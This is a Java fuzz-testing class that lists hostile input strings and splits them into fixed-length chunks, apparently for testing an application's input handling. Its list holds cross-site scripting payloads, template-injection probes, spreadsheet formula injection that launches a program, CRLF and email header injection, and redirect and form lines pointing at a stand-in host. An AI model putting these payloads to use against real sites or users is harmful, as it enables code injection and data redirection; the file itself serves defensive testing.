package org.trustquality.fuzz;

import java.util.ArrayList;
import java.util.List;

/** What somebody types who wants it to be more than text. */
final class HostileStrings {

	static final List<String> ALL = List.of("<script>alert(1)</script>", "</script><script>alert(1)</script>",
			"\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "\" onmouseover=\"alert(1)",
			"' onfocus='alert(1)' autofocus='", "` onclick=`alert(1)", "javascript:alert(1)",
			"data:text/html,<script>alert(1)</script>", "</title><script>alert(1)</script>",
			"</textarea><img src=x onerror=alert(1)>", "</option></select><b onclick=alert(1)>",
			"<iframe srcdoc='<b onload=alert(1)>'>", "<a href=\"javascript:alert(1)\">x</a>",
			"<math><mi//xlink:href=\"data:x,alert(1)\">", "<svg><script>alert(1)</script></svg>",
			"<svg><a><animate attributeName=href values=javascript:alert(1) />", "<!--><img src=x onerror=alert(1)>-->",
			"<![CDATA[<img src=x onerror=alert(1)>]]>", "${7*7} *{7*7} #{x} @{x} ~{x}", "[[${7*7}]] [(${7*7})]",
			"__${7*7}__::.x", "{{constructor.constructor('alert(1)')()}}", "&lt;script&gt;alert(1)&lt;/script&gt;",
			"&#60;b&#62; &#x3c;b&#x3e;", "\\u003cscript\\u003e \\x3cb\\x3e", "%3Cscript%3E %253Cscript%253E",
			"<style>@import'//evil.example'</style>", "<base href=\"//evil.example/\">",
			"<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<form action=//evil.example><button>",
			"<button formaction=javascript:alert(1)>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
			"<link rel=stylesheet href=//evil.example>", "\u2028alert(1)\u2029", "\u202E<b>\u2066x",
			"\uFF1Cscript\uFF1E", "=HYPERLINK(\"javascript:alert(1)\",\"x\")", "+1|' /C calc'!A0", "<b\u0000>",
			"%0d%0aSet-Cookie: x=y", "Bcc: other@example.org",
			"2026-01-01T00:00:00.000Z  INFO 1 --- Signed in: nobody");

	private HostileStrings() {
	}

	/** The same in pieces, each of which fits where a name does. */
	static List<String> packs(int longest) {
		List<String> packs = new ArrayList<>();
		StringBuilder pack = new StringBuilder();
		for (String each : ALL) {
			String storable = each.replace("\u0000", "");
			if (pack.length() + storable.length() + 1 > longest) {
				packs.add(pack.toString());
				pack.setLength(0);
			}
			pack.append(storable).append(' ');
		}
		packs.add(pack.toString());
		return packs.stream().map(String::strip).toList();
	}

}
